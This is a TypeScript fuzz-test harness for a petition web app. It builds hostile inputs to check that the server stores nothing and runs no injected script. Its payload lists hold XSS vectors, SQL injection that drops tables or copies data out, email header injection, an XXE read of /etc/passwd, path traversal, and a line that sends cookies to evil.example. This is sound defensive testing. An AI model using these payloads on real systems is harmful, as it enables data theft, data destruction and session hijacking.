// The fuzz harness: what the generated requests are made of.
import fc from "fast-check";
import { seedCampaigns } from "../../db/seed/campaigns";
import { supportedLanguages } from "../../app/lib/i18n";

export const SEED = Number(process.env.FUZZ_SEED ?? 20_261_126);
export const SCALE = Number(process.env.FUZZ_SCALE ?? 1);
export const CONCURRENCY = 16;
export const MIN_INPUTS = 10_000;
/** The tables a bad input must never add a row to. */
export const TABLES = ["signatures", "signature_tokens", "messages", "message_deliveries", "outbox"] as const;

export const SLUGS = seedCampaigns.map((c) => c.slug);
export const LANGS: readonly string[] = supportedLanguages;
/** The server's secret, set here so that a withdraw link can be proved wrong before it is sent. */
export const APP_SECRET = `padauk-fuzz-secret-${SEED}-0123456789abcdef`;
/** What the script payloads set when they run: the browser check looks for any global with this prefix. */
export const RAN = "__padaukFuzzRan";

// ---------------------------------------------------------------------------------------------
// Values: the raw material of bad input

export const range = (from: number, to: number, maxLength = 24) =>
  fc.string({ unit: fc.integer({ min: from, max: to }).map((c) => String.fromCodePoint(c)), minLength: 1, maxLength });

/** Text as Zawgyi-encoded Burmese writes it (visually Burmese, code points in Zawgyi's order). */
export const ZAWGYI = ["ျမန္မာ", "မဂၤလာပါ", "ေက်းဇူးတင္ပါတယ္", "အင္အားၾကီး", "ၿငိမ္းခ်မ္းေရး", "ဒီမိုကေရစီ"];
/**
 * Script that leaves a mark when it runs, in every context a value can land in: element content,
 * an attribute, a URL, an inline script (Remix's hydration data) and a JavaScript string. The
 * browser check looks for the global; most fit the 40 characters the code field keeps.
 */
export const RUNS_SCRIPT = [
  `<script>${RAN}=1</script>`,
  `<img src=x onerror=${RAN}=1>`,
  `"><svg onload=${RAN}=1>`,
  `'><body onload=${RAN}=1>`,
  `javascript:${RAN}=1`,
  `<a href="javascript:${RAN}=1">x</a>`,
  `</script><script>${RAN}=1</script>`,
  `\u2028</script><script>${RAN}=1//`,
  `';${RAN}=1;//`,
  `"-(${RAN}=1)-"`,
  `<details open ontoggle=${RAN}=1>`,
  `<iframe src="javascript:parent.${RAN}=1">`,
  `<form><button formaction=javascript:${RAN}=1>x`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RAN}=1>`,
  `<input autofocus onfocus=${RAN}=1>`,
];
export const PAYLOADS = [
  ...RUNS_SCRIPT,
  // SQL
  "' OR '1'='1",
  "'; DROP TABLE signatures; --",
  "1); DELETE FROM outbox; --",
  "' UNION SELECT email_enc FROM signatures --",
  "'; SELECT pg_sleep(10); --",
  "$$; TRUNCATE messages; $$",
  "\\'; COPY signatures TO '/tmp/x'; --",
  "E'\\x00'",
  // HTML and script
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  '"><svg/onload=alert(1)>',
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
  "javascript:alert(1)",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "{{constructor.constructor('alert(1)')()}}",
  "[click](javascript:alert(1))",
  "<!--",
  "]]>",
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  // header injection
  "x\r\nBcc: victim@example.org",
  "x\r\n\r\n<html>injected</html>",
  "x\nSubject: free money",
  "x\rContent-Type: text/html",
  "x%0d%0aSet-Cookie:%20padauk_session=evil",
  "=?utf-8?b?PHNjcmlwdD4=?=",
  // formats, prototypes, numbers
  "%s%s%s%n",
  "${process.env.APP_SECRET}",
  "{{name}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "NaN",
  "-1",
  "1e309",
  "[]",
  "{}",
  "null",
  "undefined",
  "true",
  // Unicode edge cases
  "\uFEFF",
  "\u200B\u200C\u200D",
  "\u2028\u2029",
  "e\u0301\u0301\u0301\u0301",
  "\u202Egnp.exe",
  "\u2066x\u2069",
  "Z̷̡̛̪͓̗̫̈́̑͋a̸̢̰͚̔l̷̰̀̏g̸̢͓̈́o̶̼͒",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "𝕳𝖊𝖑𝖑𝖔",
  "\uFFFD\uFFFE\uFFFF",
  "\u0000",
  "../../../../etc/passwd",
  "C:\\Windows\\System32",
];
// Zawgyi text this long is left out of the random mix: the server converts a field before it checks its length, and
// 120,000 Zawgyi characters keep its one thread busy for seconds, which would make this run's time a matter of luck.
export const HUGE = [
  "A".repeat(100_001),
  "ဿ".repeat(34_000), // 102 KB of Burmese
  "\u0000".repeat(100_000),
  "🏳️‍🌈".repeat(10_000),
  "<script>".repeat(15_000),
  "'".repeat(120_000),
  "%".repeat(100_000),
  "a@".repeat(60_000),
];

export const smallNasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) }, // any code point: astral, controls, unassigned
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 3, arbitrary: range(0x1000, 0x109f) }, // the Burmese block, where Zawgyi lives
  { weight: 2, arbitrary: fc.constantFrom(...ZAWGYI) },
  { weight: 2, arbitrary: fc.oneof(range(0x0590, 0x05ff), range(0x0600, 0x06ff), fc.constantFrom("\u202E", "\u200F", "\u061C", "\u2067")) }, // RTL
  { weight: 2, arbitrary: fc.oneof(range(0x00, 0x1f, 8), range(0x7f, 0x9f, 8)) }, // control characters, NUL
  { weight: 2, arbitrary: range(0xd800, 0xdfff, 3).map((s) => s.split("").join("x")) }, // lone surrogates
  { weight: 1, arbitrary: range(0x10000, 0x10ffff, 6) }, // astral
  { weight: 6, arbitrary: fc.constantFrom(...PAYLOADS) },
);
/** Mostly short nasty strings, a few pieced together, and rarely a field of 100 KB or more. */
export const nasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 500, arbitrary: smallNasty },
  { weight: 100, arbitrary: fc.array(smallNasty, { minLength: 2, maxLength: 4 }).map((a) => a.join("")) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
);
export const nonEmptyNasty = nasty.filter((s) => s.length > 0);

export const onPostgres = !!process.env.DATABASE_URL;
export const HOOK_TIMEOUT = 240_000;
/** Signed before the run and left unconfirmed: the withdraw and code forms must leave it as it is. */
export const SENTINEL_EMAIL = `fuzz-sentinel-${SEED}@example.org`;
/** Signed after the run: the one valid signature, whose name is script if it is ever rendered as markup. */
export const CONTROL_EMAIL = `fuzz-control-${SEED}@example.org`;
export const CONTROL_NAME = `"'><img src=x onerror=${RAN}=1><script>alert(1)</script>`;
